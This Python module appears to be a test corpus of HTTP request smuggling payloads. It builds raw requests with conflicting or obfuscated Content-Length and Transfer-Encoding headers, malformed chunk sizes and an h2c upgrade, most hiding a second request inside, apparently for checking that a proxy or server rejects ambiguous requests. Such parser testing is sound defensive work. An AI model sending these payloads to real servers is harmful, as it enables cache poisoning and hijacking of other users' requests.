"""Requests that a proxy and a server might take for two: each is one request, or none."""

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: a.example\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
END = b"0\r\n\r\n"


def _post(fields: bytes, body: bytes) -> bytes:
    return b"POST /elsewhere HTTP/1.1\r\nHost: a.example\r\n" + fields + b"\r\n" + body


def _length(body: bytes) -> bytes:
    return b"Content-Length: %d\r\n" % len(body)


def _coding(field: bytes) -> bytes:
    """A body that ends at once for who knows the coding, and has a request in it for who does not."""
    return _post(_length(END + SMUGGLED) + field + b"\r\n", END + SMUGGLED)


def _size(line: bytes) -> bytes:
    return _post(CHUNKED, line + SMUGGLED + b"\r\n" + END)


_HIDDEN = b"%x" % len(SMUGGLED)

ATTACKS = {
    "CL.TE": _coding(b"Transfer-Encoding: chunked"),
    "TE.CL": _post(b"Content-Length: 4\r\n" + CHUNKED, _HIDDEN + b"\r\n" + SMUGGLED + b"\r\n" + END),
    "TE with a space before the colon": _coding(b"Transfer-Encoding : chunked"),
    "TE with a tab": _coding(b"Transfer-Encoding:\tchunked"),
    "TE with a vertical tab": _coding(b"Transfer-Encoding: \x0bchunked"),
    "TE with another word": _coding(b"Transfer-Encoding: xchunked"),
    "TE with two codings": _coding(b"Transfer-Encoding: chunked, identity"),
    "TE twice": _coding(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x"),
    "TE folded": _coding(b"Transfer-Encoding:\r\n chunked"),
    "TE behind a fold": _coding(b"X: y\r\n Transfer-Encoding: chunked"),
    "TE behind a bare LF": _coding(b"X: y\nTransfer-Encoding: chunked"),
    "TE behind a bare CR": _coding(b"X: y\rTransfer-Encoding: chunked"),
    "TE with an underscore": _coding(b"Transfer_Encoding: chunked"),
    "TE with a NUL": _coding(b"Transfer-Encoding: chunked\x00"),
    "TE in quotes": _coding(b'Transfer-Encoding: "chunked"'),
    "CL twice": _post(b"Content-Length: 0\r\n" + _length(SMUGGLED), SMUGGLED),
    "CL with a sign": _post(b"Content-Length: +%d\r\n" % len(SMUGGLED), SMUGGLED),
    "CL as a list": _post(b"Content-Length: 0, %d\r\n" % len(SMUGGLED), SMUGGLED),
    "CL with a space before the colon": _post(b"Content-Length : %d\r\n" % len(SMUGGLED), SMUGGLED),
    "CL beyond 64 bits": _post(b"Content-Length: 18446744073709551616\r\n", SMUGGLED),
    "CL that Connection names": _post(b"Connection: content-length\r\n" + _length(SMUGGLED), SMUGGLED),
    "CL.0": _post(_length(SMUGGLED), SMUGGLED),
    "chunk size with a sign": _size(b"+" + _HIDDEN + b"\r\n"),
    "chunk size with 0x": _size(b"0x" + _HIDDEN + b"\r\n"),
    "chunk size beyond 64 bits": _size(b"10000000000000000\r\n"),
    "chunk extension with a bare LF": _size(_HIDDEN + b";x\n"),
    "chunk size with a bare LF": _size(_HIDDEN + b"\n"),
    "chunk without its end": _post(CHUNKED, b"1\r\nZZZ" + END + SMUGGLED),
    "trailer that is a length": _post(CHUNKED, b"1\r\nZ\r\n0\r\nContent-Length: 50\r\n\r\n"),
    "GET with a body": b"GET /elsewhere HTTP/1.1\r\nHost: a.example\r\n" + _length(SMUGGLED) + b"\r\n" + SMUGGLED,
    "HTTP/1.0 with a coding": b"POST / HTTP/1.0\r\nHost: a.example\r\n" + CHUNKED + b"\r\n" + END,
    "two hosts": b"GET /elsewhere HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n\r\n",
    "Expect with a body that is there": _post(b"Expect: 100-continue\r\n" + _length(SMUGGLED), SMUGGLED),
    "an upgrade to HTTP/2": _post(b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n" + _length(SMUGGLED), SMUGGLED),
}
